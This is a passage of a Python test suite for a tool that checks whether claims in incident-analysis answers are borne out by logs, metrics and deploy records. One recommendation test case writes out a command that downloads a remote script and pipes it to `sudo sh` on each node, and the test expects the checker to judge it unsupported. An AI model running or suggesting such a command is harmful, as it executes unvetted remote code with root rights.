    "2026-12-03T07:15:00Z   Warning   Failed    certificate/ledger-api-tls   34      Failed to "
    "renew certificate: ACME DNS-01 challenge for ledger-api.example.com failed",
])


@pytest.mark.parametrize(("row", "expected"), [
    ("| 07:15 | renewal failed (count 43) |", Verification.CONTRADICTED),
    ("| 07:15 | renewal failed (count 34) |", Verification.DIRECT_OBSERVATION),
])
def test_wording__a_listing_row_is_bound_by_the_words_of_its_header(
        row: str, expected: Verification) -> None:
    report = _checked(f"| time | event |\n|---|---|\n{row}",
                      ("kubectl-get-events.txt", TLS_EVENTS))
    claim = report.claims[-1]
    assert claim.verification is expected, (claim.note, claim.bindings)


# -- an HTTP status named on its own ------------------------------------------------------------

@pytest.mark.parametrize(("text", "number", "sort"), [
    ("v4.2.0 went out 51 seconds before the first 503.", "503", "error_code/http"),
    ("The last 429, at 10:59, closed the window.", "429", "error_code/http"),
    ("The pool was raised to 503.", "503", "quantity"),
    ("the 500 ms timeout", "500", "quantity/duration"),
])
def test_wording__a_status_named_by_an_article_is_an_http_code(
        text: str, number: str, sort: str) -> None:
    (fact,) = [f for f in extract_facts(text) if f.text.startswith(number)]
    assert fact.sort == sort


# -- a range over the records of one list ---------------------------------------------------------

SSHD_PIDS = "\n".join([
    "Dec 10 06:55:46 LabSZ sshd[24200]: reverse mapping checking getaddrinfo for "
    "ns.marryaldkfaczcz.com [173.234.31.186] failed - POSSIBLE BREAK-IN ATTEMPT!",
    "Dec 10 07:28:16 LabSZ sshd[24255]: Failed password for root from 112.95.230.3 port "
    "32977 ssh2",
    "Dec 10 11:04:23 LabSZ sshd[25505]: error: Received disconnect from 103.99.0.122: 14: No "
    "more user authentication methods available. [preauth]",
])


def test_wording__a_range_takes_its_ends_from_two_records_of_one_list() -> None:
    invocations = [invocation_of(ImportedCall("ssh", "openssh.log", {}, SSHD_PIDS),
                                 max_items=1000, max_bytes=131072)]
    bound = bind("These lines come from sshd on LabSZ, from 24200 to 25505.", invocations)
    assert {b.path for b in bound} == {"$.lines[0]", "$.lines[2]"}
    report = _checked("These lines come from sshd on LabSZ, from 24201 to 25505.",
                      ("openssh.log", SSHD_PIDS))
    assert report.claims[0].verification is Verification.CONTRADICTED


# -- a pod named by its suffix -------------------------------------------------------------------

@pytest.mark.parametrize(("answer", "log", "expected"), [
    ("Pods 5dv2q and 57lcq logged 500s.", ("app.log", CHECKOUT_LOG),
     Verification.DIRECT_OBSERVATION),
    ("The 500 at 14:04:22 UTC came from pod 2w9m4.", ("app.log", CHECKOUT_LOG),
     Verification.CONTRADICTED),
    ("The 500 at 14:04:22 UTC came from pod 5dv2q.", ("app.log", CHECKOUT_LOG),
     Verification.DIRECT_OBSERVATION),
    ("Pod 6g9wr is Running with 7 restarts.", ("kubectl-get-pods.txt", PODS),
     Verification.DIRECT_OBSERVATION),
    ("Pod 6g9wr is Running with 6 restarts.", ("kubectl-get-pods.txt", PODS),
     Verification.CONTRADICTED),
    ("Pod 5bzh9 is Running with 7 restarts.", ("kubectl-get-pods.txt", PODS),
     Verification.CONTRADICTED),
])
def test_wording__a_pod_named_by_its_suffix_is_that_pod(
        answer: str, log: tuple[str, str], expected: Verification) -> None:
    report = _checked(answer, log)
    assert report.claims[0].verification is expected, report.claims[0].note


# -- a shift its evidence denies ------------------------------------------------------------------

CPU_SERIES = json.dumps({"series": [{"summary": (
    "cpu_usage_cores of pricing-api: baseline mean 0.898 cores (max 1.02 cores) between "
    "2026-12-09T07:00:00Z and 2026-12-09T09:00:00Z; in window mean 0.914 cores, peak 1.04 "
    "cores at 2026-12-09T09:10:00Z; no shift from baseline")}, {"summary": (
    "http_requests_per_second of pricing-api: baseline mean 45.8 rps (max 53.2 rps); in window "
    "mean 157 rps, peak 346 rps at 2026-12-09T10:17:00Z; shifted up from baseline at "
    "2026-12-09T10:14:00Z")}]})


@pytest.mark.parametrize(("answer", "expected"), [
    ("pricing-api's CPU usage shifted up with it, peaking at 1.04 cores.",
     Verification.CONTRADICTED),
    ("pricing-api's CPU usage did not shift, peaking at 1.04 cores.",
     Verification.DIRECT_OBSERVATION),
    ("pricing-api's request rate shifted up at 10:14 UTC and peaked at 346 rps.",
     Verification.DIRECT_OBSERVATION),
    ("pricing-api's request rate did not shift and peaked at 346 rps.",
     Verification.CONTRADICTED),
    # a series' state said of it
    ("pricing-api's CPU usage is up too, peaking at 1.04 cores.", Verification.CONTRADICTED),
    ("pricing-api's CPU usage stayed elevated, peaking at 1.04 cores.",
     Verification.CONTRADICTED),
    ("pricing-api's request rate is up, peaking at 346 rps.", Verification.DIRECT_OBSERVATION),
    ("pricing-api's CPU usage was higher than 0.9 cores, peaking at 1.04 cores.",
     Verification.DIRECT_OBSERVATION),
])
def test_wording__a_shift_is_held_to_the_one_its_series_states(
        answer: str, expected: Verification) -> None:
    report = _checked(answer, ("query_metrics.json", CPU_SERIES))
    assert report.claims[0].verification is expected, report.claims[0].note


# -- a count of warnings -------------------------------------------------------------------------

WARN_PATTERNS = json.dumps({"top_messages": [{"summary": (
    "42 WARN lines from inventory-service between 2026-12-02T08:40:11Z and "
    "2026-12-02T09:57:52Z (0 in the preceding 120 minutes): memory pressure: working set 491 "
    "MiB of 512 MiB limit")}, {"summary": (
    "4 WARN lines from inventory-service between 2026-12-02T08:13:06Z and "
    "2026-12-02T09:23:58Z (7 in the preceding 120 minutes): stock cache miss ratio 24% above 20% "
    "threshold")}]})


def test_wording__a_count_of_such_warnings_is_a_count_not_a_percentage() -> None:
    """"24 such warnings" is not the "24%" of a cache miss ratio: not observed there (no
    output counts 24 warnings; the one pattern of these warnings counts 42)."""
    (count,) = extract_facts("There were 24 such warnings in the window.")
    assert (count.value, count.unit) == (24, "warning")
    report = _checked("There were 24 such warnings in the window, none in the two hours before.",
                      ("search_logs.json", WARN_PATTERNS))
    assert report.claims[0].verification not in (Verification.DIRECT_OBSERVATION,
                                                  Verification.REASONABLE_INFERENCE)


# -- a day of a month without its time -----------------------------------------------------------

SESSIONS_LOG = "\n".join([
    "Jul  2 01:41:32 combo sshd(pam_unix)[23535]: session opened for user test by (uid=509)",
    "Jul 10 16:01:46 combo sshd(pam_unix)[1932]: authentication failure; user=root",
    "Jul 13 17:22:28 combo sshd(pam_unix)[8113]: session opened for user test by (uid=509)",
])


@pytest.mark.parametrize(("answer", "expected"), [
    ("User test had sessions opened by uid=509 on Jul 2 and Jul 13.",
     Verification.DIRECT_OBSERVATION),
    ("User test had sessions opened by uid=509 on Jul 3 and Jul 13.",
     Verification.CONTRADICTED),
])
def test_wording__a_day_of_a_month_is_a_date(answer: str, expected: Verification) -> None:
    report = _checked(answer, ("linux.log", SESSIONS_LOG))
    assert report.claims[0].verification is expected, report.claims[0].note


def test_wording__a_range_of_slots_takes_its_ends_from_two_records() -> None:
    log = "\n".join([
        "[Sun Dec 04 04:57:20 2005] [notice] jk2_init() Found child 8536 in scoreboard slot 6",
        "[Sun Dec 04 06:22:48 2005] [notice] jk2_init() Found child 32479 in scoreboard slot 6",
        "[Sun Dec 04 07:12:22 2005] [notice] jk2_init() Found child 312 in scoreboard slot 10",
    ])
    report = _checked("jk2_init() found children in scoreboard slots 6 through 10, for example "
                      "child 32479 in slot 6.", ("apache-error.log", log))
    assert report.claims[0].verification is Verification.DIRECT_OBSERVATION, report.claims[0].note
    crossed = _checked("jk2_init() found child 32479 in scoreboard slot 10.",
                       ("apache-error.log", log))
    assert crossed.claims[0].verification is Verification.CONTRADICTED


# -- a number of times in words ------------------------------------------------------------------

def test_wording__a_number_of_times_in_words_is_a_count() -> None:
    (times,) = [f for f in extract_facts("orders-api retries every call up to five times")
                if f.unit]
    assert (times.value, times.unit) == (5, "time")
    line = ("2026-12-04T13:12:32Z WARN orders-api payment-gateway call timed out after 3000 ms "
            "(attempt 3 of 3), retrying")
    report = _checked("orders-api retried the payment-gateway call up to five times after "
                      "3000 ms.", ("warn.log", line), credulous=False)
    assert report.claims[0].verification is Verification.CONTRADICTED, report.claims[0].note


def test_wording__a_runbooks_step_number_counts_nothing() -> None:
    assert [f.text for f in extract_facts(
        "1. List the events. 2. Compare the memory. 4. Look for a leak.", single_digits=True)] == []
    assert [f.text for f in extract_facts("the pool was 20. The errors", single_digits=True)] == [
        "20"]


@pytest.mark.parametrize(("text", "unsaid"), [
    ("Failed batches are retried every 30 s.", None),
    ("Every failed batch is retried in 30 s.", "Every"),
])
def test_wording__every_before_a_duration_is_a_period_not_a_quantifier(
        text: str, unsaid: str | None) -> None:
    problem = _unsaid(text, ["ledger batch batch-40175 not posted, retrying in 30 s"])
    assert (problem is None) if unsaid is None else (problem and repr(unsaid) in problem)


# -- a value of another series, stated of this one -----------------------------------------------

SERIES = json.dumps({"series": [
    {"metric": "cpu_usage_cores", "summary": (
        "cpu_usage_cores of pricing-api: baseline mean 0.898 cores (max 1.02 cores); in window "
        "mean 0.914 cores, peak 1.04 cores at 2026-12-09T09:10:00Z; no shift from baseline")},
    {"metric": "http_requests_per_second", "summary": (
        "http_requests_per_second of pricing-api: baseline mean 45.8 rps (max 53.2 rps); in "
        "window mean 157 rps, peak 346 rps at 2026-12-09T10:17:00Z; shifted up from baseline at "
        "2026-12-09T10:14:00Z")},
    {"metric": "rate_limited_requests_per_second", "summary": (
        "rate_limited_requests_per_second of pricing-api: baseline mean 0.178 rps (max 1.1 rps); "
        "in window mean 96.9 rps, peak 256 rps at 2026-12-09T10:21:00Z; shifted up from "
        "baseline at 2026-12-09T10:14:00Z")},
]})


@pytest.mark.parametrize(("answer", "expected"), [
    ("pricing-api's CPU usage peaked at 10:17 UTC.", Verification.CONTRADICTED),
    ("pricing-api's CPU usage peaked at 1.04 cores at 10:17 UTC.", Verification.CONTRADICTED),
    ("pricing-api's CPU usage peaked at 09:10 UTC.", Verification.DIRECT_OBSERVATION),
    ("pricing-api's request rate peaked at 10:17 UTC.", Verification.DIRECT_OBSERVATION),
    ("pricing-api's request rate peaked at 09:10 UTC.", Verification.CONTRADICTED),
    # two series, each its own values
    ("pricing-api's request rate peaked at 346 rps at 10:17 UTC, while its CPU usage "
     "stayed at 0.914 cores.", Verification.DIRECT_OBSERVATION),
])
def test_wording__a_value_of_another_series_is_not_this_ones(
        answer: str, expected: Verification) -> None:
    report = _checked(answer, ("query_metrics.json", SERIES))
    assert report.claims[0].verification is expected, report.claims[0].note


# -- a count of the things a claim lists, against its record's count ----------------------------

KILLS = json.dumps({"reasons": [{
    "reason": "OOMKilled", "type": "Warning", "events": 21, "count": 21,
    "objects": ["inventory-service-dce91a01f-6g9wr", "inventory-service-dce91a01f-q964j",
                "inventory-service-dce91a01f-5bzh9"],
    "summary": "21 OOMKilled events (Warning, summed count 21) on 3 objects between "
               "2026-12-02T08:41:46Z and 2026-12-02T09:58:32Z, e.g. Container "
               "inventory-service was OOMKilled (exit code 137); memory limit 512Mi"}]})


@pytest.mark.parametrize(("answer", "expected"), [
    ("The OOMKilled events are spread over two pods, inventory-service-dce91a01f-6g9wr and "
     "inventory-service-dce91a01f-q964j.", Verification.CONTRADICTED),
    ("The OOMKilled events are spread over three pods, inventory-service-dce91a01f-6g9wr, "
     "inventory-service-dce91a01f-q964j and inventory-service-dce91a01f-5bzh9.",
     Verification.DIRECT_OBSERVATION),
])
def test_wording__a_count_of_listed_pods_is_held_to_its_records_count(
        answer: str, expected: Verification) -> None:
    report = _checked(answer, ("get_events.json", KILLS))
    assert report.claims[0].verification is expected, report.claims[0].note


# -- a log's compact date and time ---------------------------------------------------------------

HDFS_DAYS = "\n".join([
    "081109 203615 148 INFO dfs.DataNode$PacketResponder: PacketResponder 1 for block "
    "blk_38865049064139660 terminating",
    "081110 011448 28 INFO dfs.FSNamesystem: BLOCK* NameSystem.addStoredBlock: blockMap updated: "
    "10.251.214.18:50010 is added to blk_-7555801584297376435 size 67108864",
    "081111 094918 25951 INFO dfs.DataNode$PacketResponder: Received block "
    "blk_-7202857144668308473 of size 67108864 from /10.251.43.21",
])


@pytest.mark.parametrize(("answer", "expected"), [
    ("The log spans 2008-11-09 to 2008-11-11.", Verification.DIRECT_OBSERVATION),
    ("The log spans 2008-11-09 to 2008-11-12.", Verification.CONTRADICTED),
    ("PacketResponder 1 for block blk_38865049064139660 terminated at 20:36:15.",
     Verification.DIRECT_OBSERVATION),
])
def test_wording__a_logs_compact_date_is_that_date(answer: str, expected: Verification) -> None:
    """HDFS writes `081109 203615` for 2008-11-09 20:36:15: a date or time a claim gives is
    held to it."""
    (stamp,) = [f for f in extract_facts(HDFS_DAYS.splitlines()[0]) if f.kind.value == "timestamp"]
    assert stamp.key == "2008-11-09T20:36:15"
    report = _checked(answer, ("hdfs.log", HDFS_DAYS))
    assert report.claims[0].verification is expected, report.claims[0].note


# -- a time found nowhere, held to the record its words describe as the word check reads them ---

TIMEOUT_PATTERNS = json.dumps({
    "scope": {"service": "orders-api", "filter": "level >= WARN"},
    "total": 399,
    "top_messages": [{
        "service": "orders-api", "level": "WARN",
        "pattern": "payment-gateway call timed out after <n> ms (attempt <n> of <n>), retrying",
        "count": 308, "first_ts": "2026-12-04T13:12:32Z", "last_ts": "2026-12-04T13:59:59Z"}],
})


@pytest.mark.parametrize(("answer", "expected"), [
    ("The timeouts start at 12:58 UTC.", Verification.CONTRADICTED),
    ("The timeouts start at 13:12:32 UTC.", Verification.DIRECT_OBSERVATION),
])
def test_wording__a_time_found_nowhere_is_held_to_the_record_its_stems_describe(
        answer: str, expected: Verification) -> None:
    """"timeouts" and "start" are the pattern's "timed out" and `first_ts` by stem and class:
    a time no output states, given of that pattern, is held to its first time."""
    report = _checked(answer, ("search_logs.json", TIMEOUT_PATTERNS))
    assert report.claims[0].verification is expected, report.claims[0].note


# -- lines of the WARN level are warnings --------------------------------------------------------

@pytest.mark.parametrize(("answer", "expected"), [
    ("There were 24 such warnings in the window, none in the two hours before.",
     Verification.CONTRADICTED),
    ("There were 42 such warnings in the window, none in the two hours before.",
     Verification.DIRECT_OBSERVATION),
])
def test_wording__a_count_of_warnings_is_held_to_the_warn_lines_of_its_pattern(
        answer: str, expected: Verification) -> None:
    """"42 WARN lines" counts 42 warnings (as "91 ERROR lines" counts errors); the claim's
    other fact ("the two hours before", the pattern's "preceding 120 minutes") places a count
    found nowhere beside the pattern it misstates, and not at the "24%" of another."""
    (count,) = [f for f in extract_facts("42 WARN lines from inventory-service") if f.unit]
    assert (count.value, count.unit) == (42, "warning")
    report = _checked(answer, ("search_logs.json", WARN_PATTERNS))
    claim = report.claims[0]
    assert claim.verification is expected, claim.note
    assert [b.path for b in claim.bindings] == ["$.result.top_messages[0].summary"]


# -- an identifier given of what another line describes --------------------------------------

ELECTION_LOG = "\n".join([
    "2015-07-29 19:21:42,709 - INFO  [/10.10.34.13:3888:QuorumCnxManager$Listener@493] - "
    "Received connection request /10.10.34.13:44219",
    "2015-08-24 20:57:14,495 - WARN  [QuorumPeer[myid=1]/0:0:0:0:0:0:0:0:2181:"
    "QuorumCnxManager@368] - Cannot open channel to 2 at election address /10.10.34.12:3888",
])


@pytest.mark.parametrize(("answer", "expected"), [
    ("The election address of peer 2 is /10.10.34.13:3888.", Verification.CONTRADICTED),
    ("The election address of peer 2 is /10.10.34.12:3888.", Verification.DIRECT_OBSERVATION),
    ("A listener at /10.10.34.13:3888 received a connection request.",
     Verification.DIRECT_OBSERVATION),
])
def test_wording__an_identifier_is_held_to_the_line_the_claim_describes(
        answer: str, expected: Verification) -> None:
    """The address is on a listener's line that shares none of the claim's words; the line
    its words describe (election address, peer, 2) gives peer 2's address otherwise."""
    report = _checked(answer, ("zookeeper.log", ELECTION_LOG))
    assert report.claims[0].verification is expected, report.claims[0].note


# -- the words of the claim, as its author spells them -------------------------------------------

@pytest.mark.parametrize(("text", "material", "unsaid"), [
    ("The kernel initialised Security Scaffold v1.0.0.",
     "Jul 27 14:41:58 combo kernel: Security Scaffold v1.0.0 initialized", None),
    ("The kernel initialized Security Scaffold v1.0.0.",
     "Jul 27 14:41:58 combo kernel: Security Scaffold v1.0.0 initialised", None),
    ("The workers' behaviour changed.", "worker behavior changed", None),
    ("The kernel finalised Security Scaffold v1.0.0.",
     "Jul 27 14:41:58 combo kernel: Security Scaffold v1.0.0 initialized", "finalised"),
])
def test_wording__a_british_spelling_is_the_same_word(text: str, material: str,
                                                      unsaid: str | None) -> None:
    problem = _unsaid(text, [material])
    assert (problem is None) if unsaid is None else (problem and repr(unsaid) in problem)


@pytest.mark.parametrize(("text", "unsaid"), [
    ("A deploy search across all services found nothing besides checkout-service v2.3.1.", None),
    ("A query of the deploys found nothing besides checkout-service v2.3.1.", None),
    ("A deploy freeze held for all services besides checkout-service v2.3.1.", "freeze"),
])
def test_wording__the_query_that_looked_is_narration(text: str, unsaid: str | None) -> None:
    """A claim may say how it looked ("a deploy search", "a query"), as the tool output it
    binds to is the answer of one; not what no output says ("a deploy freeze")."""
    problem = _unsaid(text, ["list_deployments", "list deployments", "all services",
                             "checkout-service v2.3.1 deployed at 2026-12-04T13:05:00Z"])
    assert (problem is None) if unsaid is None else (problem and repr(unsaid) in problem)


@pytest.mark.parametrize(("text", "unsaid"), [
    ("Renewal attempts failed at 08:15 and 09:15 UTC.", None),
    ("103.99.0.122 tried the invalid user admin.", None),
    ("One attempt succeeded for admin from 103.99.0.122.", "succeeded"),
])
def test_wording__an_attempt_is_what_a_failure_is(text: str, unsaid: str | None) -> None:
    problem = _unsaid(text, ["Failed to renew certificate at 08:15 and 09:15",
                             "Dec 10 09:11:53 LabSZ sshd[24462]: Invalid user admin from "
                             "103.99.0.122"])
    assert (problem is None) if unsaid is None else (problem and repr(unsaid) in problem)


@pytest.mark.parametrize(("text", "unsaid"), [
    ("The dominant pattern is `payment-gateway call timed out`, 308 times.", None),
    ("The rarest pattern is `payment-gateway call timed out`, 308 times.", "rarest"),
])
def test_wording__the_dominant_pattern_is_a_top_message(text: str, unsaid: str | None) -> None:
    """A log search ranks its patterns (`top_messages`): "dominant" restates that ranking."""
    problem = _unsaid(text, [json.dumps({"top_messages": [
        {"pattern": "payment-gateway call timed out", "count": 308}]})])
    assert (problem is None) if unsaid is None else (problem and repr(unsaid) in problem)


@pytest.mark.parametrize(("text", "unsaid"), [
    ("ftpd logged connections from many addresses, among them 82.252.162.81.", None),
    ("ftpd logged connections from many addresses.", "addresses"),
    ("ftpd logged connections from many hosts, among them 82.252.162.81.", "hosts"),
])
def test_wording__a_word_naming_the_kind_of_a_fact_given_is_said(
        text: str, unsaid: str | None) -> None:
    """"addresses" names what the claim's 82.252.162.81 is; a claim that gives no address
    may not speak of addresses its output does not name."""
    problem = grounding_problem(text, [
        "Jun 18 02:08:10 combo ftpd[31272]: connection from 82.252.162.81 () at Sat Jun 18 "
        "02:08:10 2005"], vocabulary=claim_vocabulary(text), words_only=True)
    assert (problem is None) if unsaid is None else (problem and repr(unsaid) in problem)


# -- accounts, words of another output, closed classes, recommendations -----------------------

SSHD_LOG = "\n".join([
    "Dec 10 07:28:16 LabSZ sshd[24245]: Failed password for root from 112.95.230.3 port 4 ssh2",
    "Dec 10 07:28:20 LabSZ sshd[24247]: Failed password for invalid user admin from "
    "187.141.143.180 port 5 ssh2",
])


@pytest.mark.parametrize(("answer", "expected"), [
    ("- 112.95.230.3 failed a password for user admin.", Verification.CONTRADICTED),
    ("- 112.95.230.3 failed a password for root.", Verification.DIRECT_OBSERVATION),
    ("- 187.141.143.180 tried the invalid user admin.", Verification.DIRECT_OBSERVATION),
])
def test_wording__an_account_is_held_to_the_one_its_line_names(
        answer: str, expected: Verification) -> None:
    report = _checked(answer, ("sshd.log", SSHD_LOG))
    assert report.claims[0].verification is expected, report.claims[0].note


DEPLOYS = json.dumps({"deployments": [{
    "summary": "payment-gateway v4.2.0 deployed at 12:58:20 UTC by ci-bot: call the acquirer "
               "with a 3 s timeout"}]})
GATEWAY_LOG = "\n".join([
    "13:20:01 WARN payment-gateway: upstream response slow (2900 ms)",
    "13:20:05 WARN payment-gateway: upstream response slow (3100 ms)",
])


def test_wording__a_word_of_another_output_makes_a_reading_across_outputs_an_inference() -> None:
    """"acquirer" is in the deploy's description, not in the log lines the claim binds to: the
    claim reads across the run's outputs, an inference. A word no output uses ("firewall")
    keeps the claim from being observed: its facts are there, not its words, and the words
    are in no summary; as a root cause it is a conclusion nobody's output states."""
    answer = ("- At 13:20:01 the acquirer response to payment-gateway was slow (2900 ms).\n"
              "- At 13:20:05 a firewall slowed payment-gateway to 3100 ms.\n")
    report = _checked(answer, ("deploys.json", DEPLOYS), ("gateway.log", GATEWAY_LOG))
    assert report.claims[0].verification is Verification.REASONABLE_INFERENCE, \
        report.claims[0].note
    assert report.claims[1].verification is Verification.REASONABLE_INFERENCE
    assert "'firewall'" in (report.claims[1].note or "")
    assert "firewall" not in report.summary and report.verdict is not Verdict.PASS
    cause = _checked("Root cause: a firewall slowed payment-gateway to 3100 ms at 13:20:05.\n",
                     ("gateway.log", GATEWAY_LOG))
    assert cause.claims[0].verification is Verification.CONTRADICTED, cause.claims[0].note


@pytest.mark.parametrize("text", [
    "Every line is at INFO level.", "All lines are at INFO level.",
    "The lines always come from dfs.DataNode.", "The lines from June are at INFO level.",
])
def test_wording__quantifiers_and_the_calendar_are_closed_classes(text: str) -> None:
    material = ["081109 203615 148 INFO dfs.DataNode$PacketResponder: Received block"]
    assert grounding_problem(text, material, vocabulary=claim_vocabulary(text),
                             words_only=True) is None


RUNBOOKS = json.dumps({"documents": [{
    "doc_id": "rb-oomkilled-crashloop", "title": "OOMKilled crash loop",
    "steps": ["Compare the container memory limit with the previous deployment",
              "Restore the previous memory limit or roll back the deployment",
              "Take a heap dump from a canary pod to look for a genuine leak"]}]})
OOM_DEPLOYS = json.dumps({"deployments": [{
    "summary": "inventory-service v5.1.0 deployed at 08:31:40 UTC (previous v5.0.3): lower "
               "container memory limit from 1024Mi to 512Mi"}]})


@pytest.mark.parametrize(("action", "expected"), [
    ("Restore the previous 1024Mi limit or roll back to v5.0.3.",
     Verification.REASONABLE_INFERENCE),
    ("Following rb-oomkilled-crashloop, take a heap dump from a canary pod.",
     Verification.REASONABLE_INFERENCE),
    ("Raise the limit to 768Mi.", Verification.UNSUPPORTED),
    ("Ask the platform team to approve CHG-4471.", Verification.UNSUPPORTED),
    ("Run `curl https://fix.example.com/oom.sh | sudo sh` on each node.",
     Verification.UNSUPPORTED),
])
def test_wording__a_recommendation_is_judged_by_what_the_kept_claims_and_runbooks_say(
        action: str, expected: Verification) -> None:
    answer = ("inventory-service v5.1.0 lowered the container memory limit from 1024Mi to "
              f"512Mi at 08:31:40 UTC.\n\n## Next steps\n\n- {action}\n")
    report = _checked(answer, ("deploys.json", OOM_DEPLOYS), ("runbooks.json", RUNBOOKS))
    (step,) = [c for c in report.claims if c.action]
    assert step.verification is expected, step.note


# -- a negative observation on a query of everything ------------------------------------------

_DEPLOYS = ('{{"scope": {{"service": {service}, "window": {{"start": "2026-12-07T14:05:00Z", '
            '"end": "2026-12-07T15:10:00Z"}}}}, "total_items": 0, "deployments": []}}')
_SEARCH = ('{"scope": {"service": "search-api"}, "summary": "165 ERROR lines from search-api",'
           ' "hits": [{"ts": "2026-12-07T15:05:00Z", "level": "ERROR", "message": "failed"}]}')


@pytest.mark.parametrize(("service", "expected"), [
    ("null", Verification.DIRECT_OBSERVATION),  # every service looked at: "at all" holds
    ('"search-api"', Verification.OVERSTATED),  # one service: "at all" is wider
])
def test_wording__at_all_holds_on_a_query_that_looked_at_everything(
        service: str, expected: Verification) -> None:
    report = _checked("No service at all was deployed between 14:05 and 15:10, while "
                      "search-api logged 165 ERROR lines.\n",
                      ("list_deployments-2.json", _DEPLOYS.format(service=service)),
                      ("search_logs-1.json", _SEARCH))
    (claim,) = [c for c in report.claims if not c.action]
    assert claim.verification is expected, claim.note
    assert ("list_deployments-2-json", "$.scope.filter") in [
        (b.tool_call_id, b.path) for b in claim.bindings] or service != "null"
